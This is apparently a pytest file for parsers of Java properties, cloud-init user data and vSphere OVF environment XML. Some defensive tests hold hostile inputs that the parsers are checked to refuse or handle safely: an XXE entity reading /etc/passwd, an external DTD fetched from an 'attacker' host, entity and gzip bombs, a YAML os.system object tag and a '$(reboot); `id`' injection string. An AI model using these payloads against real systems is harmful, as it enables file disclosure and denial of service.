"""The texts that say who a machine is: read as their owners' own programs read them, and refused where they attack."""

from __future__ import annotations

import base64
import gzip
import shutil
import subprocess
from email.mime.multipart import MIMEMultipart
from email.mime.text import MIMEText
from pathlib import Path

import pytest
import yaml

from ovfbuild.guest import dialects
from ovfbuild.spec.cloud_config import with_properties

ROBOCONF = """\
#
#Tue Feb 23 10:00:00 UTC 2016
application.name=my app
scoped.instance.path=/my-root
net.roboconf.messaging.type=rabbitmq
net.roboconf.messaging.rabbitmq.server.ip=192.168.1.24\\:5672
"""

JAVA = [
    (ROBOCONF, {"application.name": "my app", "net.roboconf.messaging.rabbitmq.server.ip": "192.168.1.24:5672"}),
    ("a=1\nb:2\nc 3\nd\t= 4\ne", {"a": "1", "b": "2", "c": "3", "d": "4", "e": ""}),
    ("a = b = c\r\nd=:x\r", {"a": "b = c", "d": ":x"}),
    ("! no\n  # nor this\n \t k = v ", {"k": "v "}),
    ("a = one\\\n   two\\\r\n\tthree\nb=2", {"a": "onetwothree", "b": "2"}),
    ("a = x\\\\\nb = y", {"a": "x\\", "b": "y"}),
    ("a = end\\", {"a": "end"}),
    ("k\\ e\\=y\\:\\# = \\u00e9\\u20ac\\ud83d\\ude00\\t\\n\\r\\f\\q", {"k e=y:#": "é€😀\t\n\r\fq"}),
    ("a=#not a comment\nb=!nor", {"a": "#not a comment", "b": "!nor"}),
    ("é=ü", {"é": "ü"}),
    ("a=1\na=2", {"a": "2"}),
    ("a=\\u12", {"a": "u12"}),
]


@pytest.mark.parametrize(("text", "values"), JAVA, ids=lambda one: repr(one)[:30])
def test_java_properties(text: str, values: dict[str, str]) -> None:
    found = dialects.java_properties(text)
    assert {key: found.get(key) for key in values} == values


def test_java_agrees(tmp_path: Path) -> None:
    """java.util.Properties itself, where there is a JDK."""
    if shutil.which("jshell") is None:
        pytest.skip("no jshell here")
    text = "\n".join(text for text, _ in JAVA[1:6])
    (tmp_path / "p").write_text(text)
    code = (
        "var p = new java.util.Properties(); "
        f'p.load(new java.io.FileReader("{tmp_path / "p"}", java.nio.charset.StandardCharsets.UTF_8));\n'
        'p.forEach((k, v) -> System.out.println(">" + k + "\\u0001" + v));\n/exit\n'
    )
    done = subprocess.run(["jshell", "-s", "-"], input=code, capture_output=True, text=True, timeout=90)
    rows = [line[1:].split("\x01") for line in done.stdout.splitlines() if line.startswith(">")]
    if not rows:
        pytest.skip("jshell does not run here")
    assert {row[0]: row[1] for row in rows} == dialects.java_properties(text)


CLOUD = {
    "block": (
        "ovfbuild:\n  properties:\n    dm.host: 10.0.0.1\n    port: 5672\n",
        {"dm.host": "10.0.0.1", "port": "5672"},
    ),
    "nested": ("ovfbuild: {properties: {dm: {host: x, port: 1}}}\n", {"dm.host": "x", "dm.port": "1"}),
    "nested block": (
        "ovfbuild:\n properties:\n  dm:\n   host: x\n   port: 1\n  b: 2\n",
        {"dm.host": "x", "dm.port": "1", "b": "2"},
    ),
    "json": (
        'ovfbuild: {"properties": {"a.b": "x: {y}", "c": true, "d": "\\u00e9\\n\\"q\\""}}',
        {"a.b": "x: {y}", "c": "true", "d": 'é\n"q"'},
    ),
    "all of it json": ('{"x": 1, "ovfbuild": {"properties": {"a": "b"}}}', {"a": "b"}),
    "comments": (
        "ovfbuild: # ours\n  # a\n  properties:\n\n    # b\n    a: b # c\n    d: e#f\n",
        {"a": "b", "d": "e#f"},
    ),
    "quotes": (
        "ovfbuild:\n  properties:\n    a: 'it''s # no comment'\n    b: \"t\\tx\\\\\" # one\n    'c': d\n",
        {"a": "it's # no comment", "b": "t\tx\\", "c": "d"},
    ),
    "folded": (
        'ovfbuild:\n  properties:\n    a: one\n      two\n    b: "one\n      two\\\n      three\n\n      four"\n',
        {"a": "one two", "b": "one twothree\nfour"},
    ),
    "literal": (
        (
            "ovfbuild:\n  properties:\n    a: |\n      one\n        two\n\n      three\n"
            "    b: >-\n      one\n      two\n    c: x\n"
        ),
        {"a": "one\n  two\n\nthree\n", "b": "one two", "c": "x"},
    ),
    "nothing": ("ovfbuild:\n  properties:\n    a:\n    b: ~\n    c: ''\n", {"a": None, "b": None, "c": ""}),
    "not ours": ("users: &x [*y, !!z]\nruncmd:\n- [a]\n- ovfbuild: {properties: {a: b}}\n", {}),
    "among others": ("runcmd:\n- x\novfbuild:\n  properties: {a: b}\nwrite_files:\n- {path: /x}\n", {"a": "b"}),
    "documents": ("---\novfbuild:\n  properties:\n    a: b\n...\n", {"a": "b"}),
    "empty": ("", {}),
    "no properties": ("ovfbuild: yes\n", {}),
}


@pytest.mark.parametrize("name", CLOUD)
def test_cloud_config(name: str) -> None:
    text, values = CLOUD[name]
    assert dialects.user_data(f"#cloud-config\n{text}".encode()) == values


@pytest.mark.parametrize("name", [name for name in CLOUD if name not in ("not ours", "no properties", "empty")])
def test_pyyaml_agrees(name: str) -> None:
    text, values = CLOUD[name]

    def flat(node: object, prefix: str = "") -> dict[str, object]:
        if not isinstance(node, dict):
            return {prefix[:-1]: node}
        return {key: value for inner in node for key, value in flat(node[inner], f"{prefix}{inner}.").items()}

    theirs = flat(yaml.safe_load(text)["ovfbuild"]["properties"])
    as_text = {key: str(value).lower() if isinstance(value, bool) else value for key, value in theirs.items()}
    assert {key: None if value is None else str(value) for key, value in as_text.items()} == values


HARD: dict[str, str | int | bool] = {
    **{"quotes": 'it\'s "quoted"', "lines": "one\ntwo\n", "shell": "$(reboot); `id` && $HOME \\", "yaml": "a: b #c"},
    **{"unicode": "é€😀\u2028", "spaces": "  x  ", "braces": "{{x}} {%y%}", "tab": "a\tb", "bool": True, "int": -5},
    **{"null": "null", "number": "0x10", "date": "2020-01-01", "empty": "", "long": "y" * 5000},
}


def test_what_deploy_seed_writes_is_read_by_both() -> None:
    text = with_properties({"runcmd": [["true"]]}, HARD)
    assert yaml.safe_load(text)["ovfbuild"]["properties"] == HARD
    found = dialects.user_data(text.encode())
    assert found == {key: str(value).lower() if isinstance(value, bool) else str(value) for key, value in HARD.items()}


@pytest.mark.parametrize(
    "text",
    [
        "ovfbuild:\n  properties:\n    a: *x\n",
        "ovfbuild:\n  properties:\n    a: !!python/object:os.system x\n",
        "ovfbuild:\n  properties:\n    a: [x]\n",
        "ovfbuild:\n  properties:\n    - a\n",
        "ovfbuild:\n  properties: {a: b\n",
        "ovfbuild:\n  properties:\n    a: 'x\n",
        "ovfbuild:\n  properties:\n\ta: b\n",
        "ovfbuild:\n  properties:\n    a: b\n   c: d\n",
        "ovfbuild:\n  properties:\n    a: |2x\n      b\n",
        "ovfbuild: {properties: " + "{a: " * 50 + "1" + "}" * 50 + "}\n",
    ],
)
def test_what_is_not_understood_is_refused_without_its_values(text: str) -> None:
    with pytest.raises(dialects.NotUnderstood) as caught:
        dialects.user_data(f"#cloud-config\n{text}".encode())
    assert "os.system" not in str(caught.value)


def test_forms_of_user_data() -> None:
    config = "#cloud-config\novfbuild: {properties: {a: b}}\n"
    message = MIMEMultipart()
    message.attach(MIMEText("#!/bin/sh\na=1\n", "x-shellscript"))
    message.attach(MIMEText(config, "cloud-config"))
    assert dialects.user_data(config.encode()) == {"a": "b"}
    assert dialects.user_data(gzip.compress(config.encode())) == {"a": "b"}
    assert dialects.user_data(message.as_bytes()) == {"a": "b"}
    assert dialects.user_data(f"## template: jinja\n{config}".encode()) == {"a": "b"}
    assert dialects.user_data(ROBOCONF.encode())["application.name"] == "my app"
    assert dialects.user_data("a=\xe9".encode("latin-1")) == {"a": "é"}
    for other in ("#!/bin/sh\na=1", "#include\nhttp://x", "#cloud-config-archive\n- x", "<xml a='b'/>", ""):
        assert dialects.user_data(other.encode()) == {}


@pytest.mark.parametrize("octets", [b"\x1f\x8bno", gzip.compress(b"a" * (5 << 20), mtime=0), b"x" * (5 << 20)])
def test_bombs_are_refused(octets: bytes) -> None:
    with pytest.raises(dialects.NotUnderstood):
        dialects.user_data(octets)


ENVIRONMENT = """\
<?xml version="1.0" encoding="UTF-8"?>
<Environment xmlns="http://schemas.dmtf.org/ovf/environment/1" xmlns:oe="http://schemas.dmtf.org/ovf/environment/1"
    xmlns:ve="http://www.vmware.com/schema/ovfenv" oe:id="" ve:vCenterId="vm-42">
  <PlatformSection><Kind>VMware ESXi</Kind><Version>7.0.3</Version><Vendor>VMware, Inc.</Vendor><Locale>en</Locale></PlatformSection>
  <PropertySection>
    <Property oe:key="dm.host" oe:value="10.0.0.1"/>
    <Property oe:key="note" oe:value="&lt;a &amp; b&gt;&#10;c"/>
    <Property oe:key="empty" oe:value=""/>
  </PropertySection>
  <ve:EthernetAdapterSection><ve:Adapter ve:mac="00:50:56:00:00:01"/></ve:EthernetAdapterSection>
  <Entity oe:id="other"><PropertySection><Property oe:key="dm.host" oe:value="not ours"/></PropertySection></Entity>
</Environment>
"""  # noqa: E501


def test_the_ovf_environment_of_vsphere() -> None:
    expected = {"dm.host": "10.0.0.1", "note": "<a & b>\nc", "empty": ""}
    assert dialects.ovf_environment(ENVIRONMENT.encode()) == expected
    assert dialects.ovf_environment(ENVIRONMENT.encode() + b"\n\0\0") == expected, "as rpctool gives it"
    assert dialects.ovf_environment(ENVIRONMENT.replace("UTF-8", "UTF-16").encode("utf-16")) == expected


BOMB = '<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;">]>'
FILE = '<!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/passwd">]>'


@pytest.mark.parametrize(
    "text",
    [
        ENVIRONMENT.replace("?>", "?>" + BOMB, 1),
        ENVIRONMENT.replace("?>", "?>" + FILE, 1).replace("10.0.0.1", "&f;"),
        ENVIRONMENT.replace("?>", '?><!DOCTYPE x SYSTEM "http://attacker/x.dtd">', 1),
        ENVIRONMENT.replace("10.0.0.1", "&undefined;"),
        ENVIRONMENT[:-20],
        ENVIRONMENT.replace("ovf/environment/1", "ovf/envelope/1"),
        "<a/>",
        "",
    ],
)
def test_xml_attacks_are_refused(text: str) -> None:
    with pytest.raises(dialects.NotUnderstood):
        dialects.ovf_environment(text.encode())
    if "DOCTYPE" in text:
        with pytest.raises(dialects.NotUnderstood):
            dialects.ovf_environment(text.replace("UTF-8", "UTF-16").encode("utf-16"))


def test_a_base64_value_is_a_value() -> None:
    word = base64.b64encode(b"#cloud-config\n{}").decode()
    assert dialects.java_properties(f"user-data={word}") == {"user-data": word}
